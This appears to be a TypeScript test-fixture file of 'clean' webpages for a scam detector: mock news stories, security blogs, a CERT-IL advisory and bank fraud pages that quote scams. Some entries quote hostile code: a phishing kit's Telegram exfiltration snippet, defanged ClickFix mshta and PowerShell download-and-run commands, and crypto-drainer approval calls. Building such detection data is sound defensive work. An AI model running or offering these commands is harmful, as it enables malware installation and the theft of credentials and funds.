import { htmlRoute, type Entry } from '../entry.js';
import { jsRoute } from '../parts/e-bin.js';
import { FONT_AR, FONT_HE, LOGO, doc, esc } from '../parts/yu-kit.js';

// News stories, vendor blogs, bank and regulator pages that quote the scams, kits, ClickFix commands
// and drainer calls verbatim, in Hebrew, Arabic, Russian and English.

export const entries: Entry[] = [
{
  id: 'yu-clean-news-israelpost-sms-scam-article',
  label: 'clean',
  kind: 'news-quoting-scam',
  url: 'https://www.ynet.co.il/digital/technews/article/yu-hkx8821',
  body: doc({
    title: 'הטריק החדש של הנוכלים: "החבילה שלך מעוכבת במכס" | ynet',
    lang: 'he',
    css: `body{margin:0;font-family:${FONT_HE};color:#111}.mh{background:#de1a1a;color:#fff;padding:10px 20px;font:700 26px Arial}.a{max-width:720px;margin:20px auto;padding:0 14px;line-height:1.8;font-size:18px}
.a h1{font-size:32px;line-height:1.25}.sub{font-size:20px;color:#444}.sms{background:#eee;border-radius:16px;padding:12px 16px;font-size:15px;max-width:440px}.by{font-size:13px;color:#777}`,
    body: `<div class="mh">ynet</div><div class="a"><h1>הטריק החדש של הנוכלים: "החבילה שלך מעוכבת במכס"</h1>
<p class="sub">עשרות אלפי ישראלים קיבלו בימים האחרונים הודעה שמתחזה לדואר ישראל ומבקשת לשלם "דמי מכס" של כמה שקלים. מי שמילא את הפרטים גילה חיובים של אלפי שקלים</p>
<p class="by">עמרי כהן | 14.10.25</p>
<p>"קיבלתי הודעה שהחבילה שלי מחכה במכס ושצריך לשלם 7.90 שקל, וזה נראה לי הגיוני כי באמת הזמנתי משהו מעלי אקספרס", מספרת ד׳, תושבת חולון. "מילאתי את פרטי הכרטיס, ואז ביקשו קוד שנשלח אליי. אחרי שעה ראיתי באפליקציה של חברת האשראי שלוש עסקאות בחו״ל בסך 4,800 שקל".</p>
<p>כך נראתה ההודעה שקיבלה:</p>
<div class="sms">דואר ישראל: הפריט RR558821004IL מעוכב. יש להסדיר תשלום מכס 7.90 ש״ח תוך 48 שעות: il-post.short-lnk[.]com/p/RR58821</div>
<p>לדברי חוקרי אבטחה, הקישור מוביל לאתר שמעתיק את עיצוב אתר דואר ישראל, כולל "ציר זמן" של המשלוח, ולאחר מכן לטופס תשלום ולדף אימות 3D Secure מזויף. בדואר ישראל מדגישים כי הם אינם שולחים קישורים לתשלום מספרי טלפון פרטיים, וכי מעקב ותשלום מתבצעים רק באתר הרשמי ובאפליקציה.</p>
<p>במערך הסייבר הלאומי ממליצים לא ללחוץ על קישורים בהודעות כאלה, ולדווח למוקד 119.</p></div>`,
  }),
},
{
  id: 'yu-clean-blog-israeli-bank-kit-telegram-analysis',
  label: 'clean',
  kind: 'security-blog-quoting-kit',
  url: 'https://research.cyberint-labs.com/blog/yu-inside-an-israeli-bank-phishing-kit',
  body: doc({
    title: 'Inside a Hebrew-language bank phishing kit that exfiltrates to Telegram | Research Blog',
    lang: 'en',
    css: `body{margin:0;font-family:Georgia,serif;color:#1f2328}.hd{background:#111827;color:#fff;padding:14px 24px;font-family:Arial}.a{max-width:760px;margin:24px auto;padding:0 16px;line-height:1.75}
pre{background:#0d1117;color:#e6edf3;padding:14px;overflow:auto;font-size:13px;direction:ltr;border-radius:6px}code{font-family:Consolas,monospace}table{border-collapse:collapse;width:100%;font-size:14px}td,th{border:1px solid #ddd;padding:6px}`,
    body: `<div class="hd">Threat Research Blog</div><div class="a"><h1>Inside a Hebrew-language bank phishing kit that exfiltrates to Telegram</h1><p><i>Posted by the Threat Research team · 12 min read</i></p>
<p>Over the past quarter we tracked more than 300 domains serving a kit that impersonates four major Israeli banks. The kit is distributed as a ZIP and deployed on cheap TLDs (<code>.online</code>, <code>.click</code>, <code>.top</code>) and on free static hosting. Victims are lured by SMS messages claiming the account was restricted.</p>
<h2>Exfiltration</h2><p>Rather than a PHP mailer, the kit sends every step of the flow (login, OTP, card) directly to a Telegram chat. The bot token is split into pieces to frustrate naive string matching:</p>
<pre><code>${esc(`var _tp=["7384419","026:AAF","3kQm_Zx", ...];
function snd(o){var t="";for(var k in o){t+=k+": "+o[k]+"\\n"}
  return fetch("https://api.telegram.org/bot"+_tp.join("")+"/sendMessage",{
    method:"POST",headers:{"Content-Type":"application/json"},
    body:JSON.stringify({chat_id:_ci,text:t})})}`)}</code></pre>
<p>The kit also validates the Israeli ID number (Teudat Zehut) check digit and runs a Luhn check on the card number before sending, so the operators receive "clean" data.</p>
<h2>Indicators</h2><table><tr><th>Type</th><th>Value</th></tr><tr><td>Domain</td><td>leumi-digital-il[.]info</td></tr><tr><td>Domain</td><td>poalim-secure-update[.]online</td></tr><tr><td>Telegram chat</td><td>-1002214730581</td></tr></table>
<p>Defenders should block outbound requests to <code>api.telegram.org</code> from unexpected contexts and monitor newly registered domains containing bank names.</p></div>`,
  }),
},
{
  id: 'yu-clean-hebrew-blog-clickfix-explainer',
  label: 'clean',
  kind: 'security-blog-quoting-clickfix',
  url: 'https://www.digitalwhisper-blog.co.il/yu-clickfix-captcha-hamitchaze',
  body: doc({
    title: 'ClickFix: ה"קאפצ׳ה" שמבקשת מכם ללחוץ Win+R | בלוג אבטחת מידע',
    lang: 'he',
    css: `body{margin:0;font-family:${FONT_HE};color:#222}.a{max-width:760px;margin:24px auto;padding:0 16px;line-height:1.85}pre{direction:ltr;text-align:left;background:#f4f4f4;border:1px solid #ddd;padding:12px;font-size:13px;white-space:pre-wrap}
.fig{border:1px solid #ccc;padding:14px;background:#fafafa;max-width:420px}kbd{border:1px solid #aaa;border-radius:3px;padding:0 5px;background:#fff}`,
    body: `<div class="a"><h1>ClickFix: ה"קאפצ׳ה" שמבקשת מכם ללחוץ Win+R</h1><p>בחודשים האחרונים אנחנו רואים יותר ויותר אתרים ישראליים פרוצים (בעיקר אתרי וורדפרס של עסקים קטנים) שמציגים למבקרים חלון "אני לא רובוט" מזויף.</p>
<h2>איך זה נראה?</h2><div class="fig">נא לאשר שאינך רובוט:<br>1. לחצו על <kbd>Win</kbd>+<kbd>R</kbd><br>2. לחצו על <kbd>Ctrl</kbd>+<kbd>V</kbd><br>3. לחצו על <kbd>Enter</kbd></div>
<p>ברגע שלוחצים על תיבת הסימון, הסקריפט באתר מעתיק ללוח פקודה כמו זו (קישורים מנוטרלים):</p>
<pre>${esc(`mshta hxxps://verify-human[.]il-check[.]top/he/captcha/v.hta # ✅ אני לא רובוט - מזהה אימות: 4477-21`)}</pre>
<p>או בגרסה אחרת:</p><pre>${esc(`powershell -w h -nop -c "iex(irm 'hxxps://cdn-jsdelivr-stats[.]com/wp/x.ps1')" # I am not a robot - reCAPTCHA ID 88213`)}</pre>
<p>החלק שאחרי הסימן # הוא הערה: זה הטקסט שהקורבן רואה בחלון ההפעלה, ולכן הכל נראה "תמים". בפועל מורץ PowerShell שמוריד נוזקת גניבת מידע (Lumma, StealC ואחרות).</p>
<h2>איך מתגוננים?</h2><ul><li>אף קאפצ׳ה אמיתית לא תבקש מכם להריץ משהו במחשב.</li><li>בארגונים: ניתן לחסום את חלון ההפעלה (Run) באמצעות GPO ולנטר הרצה של mshta ו-PowerShell מתוך explorer.exe.</li></ul></div>`,
  }),
},
{
  id: 'yu-clean-arabic-news-salik-aramex-smishing',
  label: 'clean',
  kind: 'news-quoting-scam',
  url: 'https://www.alkhaleej.ae/yu-2025-10-14/tahdhir-rasail-salik-aramex',
  body: doc({
    title: 'تحذير من رسائل نصية احتيالية تنتحل صفة "سالك" و"أرامكس" | الخليج',
    lang: 'ar',
    css: `body{margin:0;font-family:${FONT_AR};color:#111}.mh{background:#8b0000;color:#fff;padding:10px 20px;font-size:24px;font-weight:700}.a{max-width:740px;margin:20px auto;padding:0 14px;line-height:1.9;font-size:17px}
.sms{background:#efefef;border-radius:14px;padding:10px 14px;max-width:440px;font-size:15px}`,
    body: `<div class="mh">الخليج</div><div class="a"><h1>تحذير من رسائل نصية احتيالية تنتحل صفة "سالك" و"أرامكس"</h1><p>دبي - 14 أكتوبر</p>
<p>حذّرت شرطة دبي من رسائل نصية احتيالية انتشرت خلال الأيام الماضية تنتحل صفة شركة "سالك" وشركات الشحن، وتطالب المتلقين بدفع رسوم بسيطة عبر روابط مزيفة بهدف سرقة بيانات البطاقات المصرفية.</p>
<p>ومن أمثلة الرسائل المتداولة:</p><div class="sms">سالك: لديك رسوم مرور غير مدفوعة بقيمة 32 درهم. يرجى الدفع فوراً لتجنب غرامة 50 درهم: salik-ae[.]toll-pay[.]live</div>
<div class="sms">Aramex: Your shipment is on hold due to incomplete address. Pay AED 5.25 to reschedule: aramex-ae[.]delivery-reschedule[.]top</div>
<p>وأكدت الشرطة أن الجهات الرسمية لا ترسل روابط دفع عبر رسائل من أرقام شخصية، داعية الجمهور إلى الإبلاغ عن أي رسالة مشبوهة عبر منصة "e-Crime" أو الاتصال بالرقم 901.</p></div>`,
  }),
},
{
  id: 'yu-clean-russian-news-binary-options-verdict',
  label: 'clean',
  kind: 'news-quoting-scam',
  url: 'https://www.vesty.co.il/main/article/yu-binarnye-opciony-prigovor',
  body: doc({
    title: 'Суд вынес приговор организаторам колл-центра бинарных опционов | Вести',
    lang: 'ru',
    css: `body{margin:0;font-family:Georgia,serif;color:#222}.m{background:#003a70;color:#fff;padding:10px 20px;font:700 24px Arial}.a{max-width:720px;margin:20px auto;padding:0 14px;line-height:1.75}.q{border-left:4px solid #003a70;padding:6px 12px;background:#f5f7fa;font-style:italic}`,
    body: `<div class="m">ВЕСТИ</div><div class="a"><h1>Суд в Тель-Авиве вынес приговор организаторам колл-центра «бинарных опционов»</h1><p><i>Экономика · 14 октября</i></p>
<p>Окружной суд Тель-Авива приговорил трёх организаторов колл-центра в Рамат-Гане к срокам от 4 до 7 лет. По данным прокуратуры, сотрудники центра звонили пожилым жертвам в Европе и Израиле, представляясь «личными финансовыми консультантами».</p>
<p>Согласно обвинительному заключению, «консультанты» использовали типовые скрипты:</p>
<p class="q">«Доходность 87% на каждую сделку, вывод в течение 24 часов. Платформа регулируется и застрахована на сумму до миллиона шекелей».</p>
<p>Жертвы заполняли форму на рекламных лендингах, после чего им звонили с номеров с кодами +44 и +357. Когда клиенты пытались вывести деньги, от них требовали «налог» или «комиссию за вывод».</p>
<p>Управление по ценным бумагам напоминает: деятельность в сфере бинарных опционов в Израиле запрещена с 2017 года. Проверить, есть ли у компании лицензия, можно на сайте управления.</p></div>`,
  }),
},
{
  id: 'yu-clean-cert-advisory-drainer-calls-quoted',
  label: 'clean',
  kind: 'advisory-quoting-drainer',
  url: 'https://www.gov.il/he/departments/publications/reports/yu-alert-crypto-drainers-airdrops',
  body: doc({
    title: 'התרעה: אתרי "איירדרופ" מזויפים המרוקנים ארנקי קריפטו | מערך הסייבר הלאומי',
    lang: 'he',
    css: `body{margin:0;font-family:${FONT_HE};color:#1b1b1b}.gh{border-bottom:1px solid #ddd;padding:8px 20px;display:flex;gap:14px;align-items:center}.a{max-width:780px;margin:20px auto;padding:0 16px;line-height:1.8}
pre{direction:ltr;text-align:left;background:#f3f4f6;border:1px solid #d1d5db;padding:12px;font-size:12.5px;white-space:pre-wrap}table{border-collapse:collapse;width:100%;font-size:14px;direction:ltr}td{border:1px solid #ccc;padding:6px}`,
    body: `<div class="gh">${LOGO.govil}<span>מערך הסייבר הלאומי · CERT-IL</span></div>
<div class="a"><h1>התרעה: אתרי "איירדרופ" מזויפים המרוקנים ארנקי קריפטו</h1><p>מספר התרעה: ALERT-CERT-IL-W-2025-118 · רמת חומרה: בינונית</p>
<p>זוהה קמפיין המפיץ בטלגרם ובוואטסאפ קישורים לאתרים המציעים "איירדרופ" של מטבע יציב מבוסס שקל ושל טוקנים "מקומיים". לאחר חיבור הארנק, האתר מבקש לאשר טרנזקציה שנראית כ"קבלת הטוקנים" אך בפועל מעניקה לתוקף הרשאה בלתי מוגבלת על הטוקנים של הקורבן:</p>
<pre>${esc(`// approve(spender, MAX_UINT256) on USDT
ethereum.request({method:"eth_sendTransaction",params:[{from:acct,
  to:"0xdAC17F958D2ee523a2206206994597C13D831ec7",
  data:"0x095ea7b3"+pad(SPENDER)+"ffff…ffff"}]})

// NFT variant: setApprovalForAll(operator, true)
data:"0xa22cb465"+pad(OPERATOR)+"00…01"`)}</pre>
<p>גרסה נוספת מבקשת חתימה "ללא עמלת גז" (<code>eth_signTypedData_v4</code> מסוג Permit) שמאפשרת לתוקף למשוך את הטוקנים בכל עת.</p>
<h3>המלצות</h3><ul><li>קראו בעיון את מה שהארנק מבקש לאשר. "Approve", "setApprovalForAll" או "Permit" אינם קבלת טוקנים.</li><li>בדקו ובטלו הרשאות קיימות באמצעות כלים מוכרים.</li><li>לעולם אל תזינו 12/24 מילות שחזור באתר.</li></ul>
<table><tr><td>claim.ilsx-shekel[.]finance</td><td>0x6f1d2cA94E7b38c06f52A1e0dB9c87E4a3F2D51b</td></tr><tr><td>aecoin-rewards.claim-uae[.]xyz</td><td>0x9B3e4A0d1C52f7e68a2D0F4b51c3E8a7D6f2019C</td></tr></table></div>`,
  }),
},
{
  id: 'yu-clean-bit-help-center-fraud-article',
  label: 'clean',
  kind: 'payapp-help-page',
  url: 'https://www.bitpay.co.il/he/help/yu-security-fraud',
  body: doc({
    title: 'איך לזהות ניסיונות הונאה? | מרכז העזרה של bit',
    lang: 'he',
    css: `body{margin:0;font-family:${FONT_HE};color:#123}.h{background:#00b4b4;padding:14px 20px}.h svg rect{fill:#fff}.h svg text{fill:#00b4b4}.a{max-width:760px;margin:20px auto;padding:0 16px;line-height:1.8}
details{border:1px solid #d9eeee;border-radius:8px;padding:10px 14px;margin:8px 0}summary{font-weight:700;cursor:pointer}`,
    body: `<div class="h">${LOGO.bit}</div><div class="a"><h1>איך לזהות ניסיונות הונאה?</h1>
<details open><summary>קיבלתי הודעה "קיבלת העברה ב-bit, לחץ לאישור"</summary><p>זו הונאה. העברות ב-bit מתקבלות אוטומטית באפליקציה. לעולם לא תצטרכו להזין פרטי כרטיס, תעודת זהות או קוד SMS באתר כדי לקבל כסף.</p></details>
<details><summary>מישהו ביקש ממני את הקוד שקיבלתי ב-SMS</summary><p>הקוד משמש לרישום האפליקציה במכשיר חדש. מי שמקבל אותו יכול להשתלט על החשבון שלכם. אל תמסרו אותו לאף אחד, גם לא למי שמציג את עצמו כנציג bit או הבנק.</p></details>
<details><summary>קיבלתי קישור לעדכון גרסה של bit (קובץ APK)</summary><p>bit מתעדכנת רק דרך Google Play ו-App Store. קובץ APK מאתר אחר הוא נוזקה שמטרתה לגנוב סיסמאות וקודים.</p></details>
<details><summary>נפלתי בפח, מה עושים?</summary><p>פנו מיד לבנק שלכם ולחברת האשראי לחסימת הכרטיס, החליפו סיסמאות, ודווחו למשטרה ולמוקד 119.</p></details></div>`,
  }),
},
{
  id: 'yu-clean-adcb-fraud-awareness-bilingual',
  label: 'clean',
  kind: 'bank-security-page',
  url: 'https://www.adcb.com/en/security/yu-fraud-awareness',
  body: doc({
    title: 'Fraud awareness | التوعية بالاحتيال | ADCB',
    lang: 'en',
    css: `body{margin:0;font-family:Arial;color:#222}.t{border-bottom:3px solid #e11d2e;padding:10px 20px}.cols{display:flex;max-width:960px;margin:20px auto;gap:24px;padding:0 16px}.cols>div{flex:1;line-height:1.7}.ar{direction:rtl;font-family:${FONT_AR}}`,
    body: `<div class="t">${LOGO.adcb}</div><div class="cols"><div><h2>Protect yourself from fraud</h2><p>Fraudsters send SMS messages saying your card has been <i>"temporarily suspended due to Emirates ID update"</i> with a link to "reactivate" it. The fake page asks for your card number, expiry, CVV and PIN.</p>
<p><b>ADCB will never</b> ask for your PIN, OTP or CVV by SMS, email, phone or a link. If you shared your details, call 600 50 2030 immediately to block your card.</p></div>
<div class="ar"><h2>احمِ نفسك من الاحتيال</h2><p>يرسل المحتالون رسائل تفيد بأن "تم إيقاف بطاقتك مؤقتاً بسبب عدم تحديث بيانات الهوية الإماراتية" مع رابط لإعادة التفعيل. الصفحة المزيفة تطلب رقم البطاقة والرقم السري ورمز CVV.</p>
<p>لن يطلب منك بنك أبوظبي التجاري أبداً الرقم السري أو رمز التحقق. في حال مشاركة بياناتك اتصل فوراً على 600502030.</p></div></div>`,
  }),
},
];
